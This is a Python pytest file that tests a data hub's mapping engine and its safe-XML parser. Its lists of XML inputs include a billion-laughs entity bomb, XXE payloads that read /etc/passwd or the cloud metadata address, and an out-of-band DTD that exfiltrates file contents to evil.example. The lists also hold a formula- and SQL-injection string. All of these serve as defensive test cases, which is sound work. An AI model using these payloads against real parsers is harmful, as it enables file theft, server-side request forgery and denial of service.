def test_scale_of_a_huge_integer_is_a_mapping_error():
    """Fixed: ``scale`` on a JSON integer beyond float range (e.g. 400 digits)
    raises OverflowError from ``math.isfinite(value)``
    (lib/mapping_engine.py ``_scale``) instead of MappingError."""
    for value in (10**400, -(10**400), 10**4299):
        outcome = expect(_transform, MappingError, "scale", value, {"factor": 0.01})
        assert isinstance(outcome, MappingError)


def test_a_factor_beyond_float_range_is_a_rule_error():
    """Fixed (low: factors come from a Float field or a mapping file):
    validate_rules raises OverflowError for ``{"factor": 10**400}`` from
    ``math.isfinite`` in lib/mapping_engine.py ``_check_factor``."""
    for factor in (10**400, -(10**400)):
        rule = Rule("out", "in", "scale", {"factor": factor})
        outcome = expect(_checked_rules, MappingError, [rule])
        assert isinstance(outcome, MappingError)


def test_validate_survives_nesting_deeper_than_the_recursion_limit():
    """Fixed (low: json.loads cannot produce such documents, its own limit is
    the same recursion limit): validate() reports a type error by building
    jsonschema's message with repr() of the value, which raises RecursionError
    beyond ~1,000 levels (lib/canonical.py ``validate``), although the
    function is documented never to raise for a JSON-like document."""
    example = canonical.example("supplier")
    for document in (
        DEEP[0],
        {**example, "name": DEEP[0]},
        {**example, "extensions": DEEP[0]},
    ):
        expect_validation("supplier", document)


def test_a_format_repeating_a_directive_is_a_rule_error():
    """Fixed: a ``format`` such as ``%d/%m/%Y %d`` makes validate_rules raise
    re.error ("redefinition of group name") from datetime.strptime in
    lib/mapping_engine.py ``_check_format``, which only catches ValueError;
    submitting such a mapping rule shows a traceback instead of the reason."""
    for fmt in ("%d%d", "%d/%m/%Y %d", "%Y-%m-%d %H:%M %H"):
        for name in ("date", "datetime"):
            rule = Rule("out", "in", name, {"format": fmt})
            outcome = expect(_checked_rules, MappingError, [rule])
            assert isinstance(outcome, MappingError)


# -- safe XML --------------------------------------------------------------------------

LOL = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>"""
QUADRATIC = (
    b'<!DOCTYPE a [<!ENTITY x "'
    + b"x" * 50_000
    + b'">]><a>'
    + b"&x;" * 50_000
    + b"</a>"
)
CXML = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">\n'
    b'<cXML payloadID="1@platform" timestamp="2026-11-26T09:00:00Z">'
    b'<Response><Status code="200" text="OK">&amp; &#233;</Status></Response></cXML>'
)
HOSTILE_XML = [
    LOL,
    LOL.replace(b"<lolz>", b"<!-- x --><lolz>"),
    LOL.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0"?><!-- x -->'),
    LOL.decode().encode("utf-16"),
    LOL.decode().encode("utf-16-le"),
    LOL.decode().encode("utf-32-le"),  # no BOM: starts like UTF-16 "<\x00"
    LOL.decode().encode("utf-32"),
    QUADRATIC,
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://169.254.169.254/latest/">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x SYSTEM "expect://id">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY x PUBLIC "-//x//EN" "http://evil.example/x">]><a>&x;</a>',
    b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><a/>',
    b'<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/passwd">'
    b"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'http://evil.example/?%f;'>\"> %e;]>"
    b"<a/>",
    b'<!DOCTYPE a SYSTEM "x.dtd" [<!ENTITY x "y">]><a>&x;</a>',
    b'<!DOCTYPE a PUBLIC "-//x//EN" "http://evil.example/a.dtd"><a/>',
    b'<!doctype a [<!ENTITY x "y">]><a>&x;</a>',
    b"<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
    b'<!ENTITY x "y"><a/>',
    b"<!ELEMENT a ANY><a/>",
    b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>&undeclared;</a>',
    b"<a>&undeclared;</a>",
    b"<a>&#0;</a>",
    b"<a>&#x110000;</a>",
    b"<a>&#xD800;</a>",
    b"<a>" * 101 + b"</a>" * 101,
    b"<a>" * 300 + b"</a>" * 300,
    b"<a>" * 10_000 + b"</a>" * 10_000,
    b"<a>" * 10_000,
    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
    b'<?xml version="1.0" encoding="UTF-16"?><a/>',
    '<?xml version="1.0" encoding="UTF-8"?><a/>'.encode("utf-16"),
    b'<?xml version="1.0" encoding="US-ASCII"?><a>caf\xc3\xa9</a>',
    b'<?xml version="1.0" encoding="EBCDIC-US"?><a/>',
    b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-script+AD4-</a>',
    "<a/>".encode("cp500"),
    codecs.BOM_UTF32_LE + "<a/>".encode("utf-32-le"),
    b"<a>\xff\xfe</a>",
    b"<a>\xc0\xaf</a>",
    b"<a>\x00</a>",
    b"\x00<a/>",
    b"<a/><b/>",
    b"text only",
    b"",
    b"   \n",
    b"<",
    b"<a",
    b"<a><b></a></b>",
    b"<?xml",
    b"<!--",
    b"<!DOCTYPE",
    b"<a>" + b"x" * (safe_xml.DEFAULT_MAX_BYTES + 1) + b"</a>",
    # XInclude, truncated
    b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/>',
]
ACCEPTABLE_XML = [
    CXML,
    CXML.decode().replace("UTF-8", "UTF-16").encode("utf-16"),
    codecs.BOM_UTF8 + CXML,
    b'<!DOCTYPE a SYSTEM "file:///etc/passwd"><a>ok</a>',  # never loaded
    b'<!DOCTYPE a SYSTEM "http://169.254.169.254/x.dtd"><a>ok</a>',  # never fetched
    b'<a xmlns:xi="http://www.w3.org/2001/XInclude">'
    b'<xi:include href="file:///etc/passwd" parse="text"/></a>',  # never included
    b'<?xml-stylesheet href="http://evil.example/x.xsl"?><a/>',
    b"<a><![CDATA[&x; <!DOCTYPE a [<!ENTITY x 'y'>]>]]></a>",
    b"<a><!-- <!DOCTYPE a [<!ENTITY x 'y'>]> --></a>",
    b'<a b="' + b"x" * MB + b'"/>',
    b"<a>" * 100 + b"</a>" * 100,
    "<a>\u202eevil\u200b =cmd|' /C calc'!A0 '; DROP TABLE x; --</a>".encode(),
]


def _parse(data):
    started = time.monotonic()
    try:
        root = safe_xml.parse(data)
    finally:
        assert time.monotonic() - started < 2, "too slow: expansion or network?"
    text = b"".join(
        part.encode("utf-8", "replace") if isinstance(part, str) else b""
        for part in root.itertext()
    )
    assert b"root:" not in text and b"lollol" not in text
    return root


@pytest.mark.parametrize("data", HOSTILE_XML, ids=range(len(HOSTILE_XML)))
def test_hostile_xml_is_refused_with_a_readable_reason(data):
    outcome = expect(_parse, safe_xml.UnsafeXMLError, data)
    assert isinstance(outcome, safe_xml.UnsafeXMLError), data[:120]


@pytest.mark.parametrize("data", ACCEPTABLE_XML, ids=range(len(ACCEPTABLE_XML)))
def test_harmless_xml_is_parsed_without_loading_anything(data):
    root = expect(_parse, safe_xml.UnsafeXMLError, data)
    assert not isinstance(root, safe_xml.UnsafeXMLError), str(root)


def test_every_truncation_of_a_valid_document_is_refused():
    for length in range(len(CXML)):
        outcome = expect(_parse, safe_xml.UnsafeXMLError, CXML[:length])
        assert isinstance(outcome, safe_xml.UnsafeXMLError), CXML[:length]


def test_text_instead_of_bytes_is_a_type_error():
    outcome = expect(_parse, TypeError, CXML.decode())
    assert isinstance(outcome, TypeError)


XML_TOKENS = [
    "<a>",
    "</a>",
    "<b x='1'>",
    "</b>",
    "<c/>",
    "text",
    "&amp;",
    "&x;",
    "&#65;",
    "&#0;",
    "<?xml version='1.0' encoding='utf-16'?>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE a ",
    "SYSTEM 'x.dtd'",
    "[",
    "]",
    ">",
    "<!ENTITY x 'y'>",
    "<!ENTITY % p SYSTEM 'http://evil.example/'>",
    "%p;",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?pi?>",
    "\x00",
    "\ufeff",
    "\u202e",
]


@FUZZ
@given(
    tokens=st.lists(st.sampled_from(XML_TOKENS), max_size=30),
    codec=st.sampled_from(["utf-8", "utf-16", "utf-16-le", "utf-16-be", "latin-1"]),
)
def test_random_xml_never_crashes_the_parser(tokens, codec):
    data = "".join(tokens).encode(codec, errors="replace")
    expect(_parse, safe_xml.UnsafeXMLError, data)


@FUZZ
@given(data=st.binary(max_size=300))
def test_random_bytes_never_crash_the_xml_parser(data):
    expect(_parse, safe_xml.UnsafeXMLError, data)


# -- ordering (update times of canonical documents) ------------------------------------


@FUZZ
@given(value=st.text(max_size=40) | st.sampled_from(DATE_TIMES[3:]))
def test_random_timestamps_never_crash_parse_timestamp(value):
    TALLY["tried"] += 1
    try:
        moment = ordering.parse_timestamp(value)
    except Exception as exc:
        _crash("ordering.parse_timestamp", exc)
    TALLY["rejected" if moment is None else "accepted"] += 1


def test_content_after_a_nul_byte_is_not_silently_dropped():
    """Fixed: XML forbids U+0000, but safe_xml.parse accepts a document with a
    NUL byte after the root element and libxml2 silently ignores everything
    after it: ``<a>x</a>\\x00<b>more</b>`` parses as ``<a>x</a>``. Another
    parser (or a person) sees a different document than the hub
    (lib/safe_xml.py ``_decode`` lets the NUL through)."""
    for data in (
        b"<a/>" + b"\x00" * 10,
        b"<a>x</a>\x00<b>more</b>",
        b"<a>x</a>\x00<!DOCTYPE a [<!ENTITY x 'y'>]>",
        "<a>x</a>\x00<b/>".encode("utf-16"),
    ):
        outcome = expect(_parse, safe_xml.UnsafeXMLError, data)
        assert isinstance(outcome, safe_xml.UnsafeXMLError), data
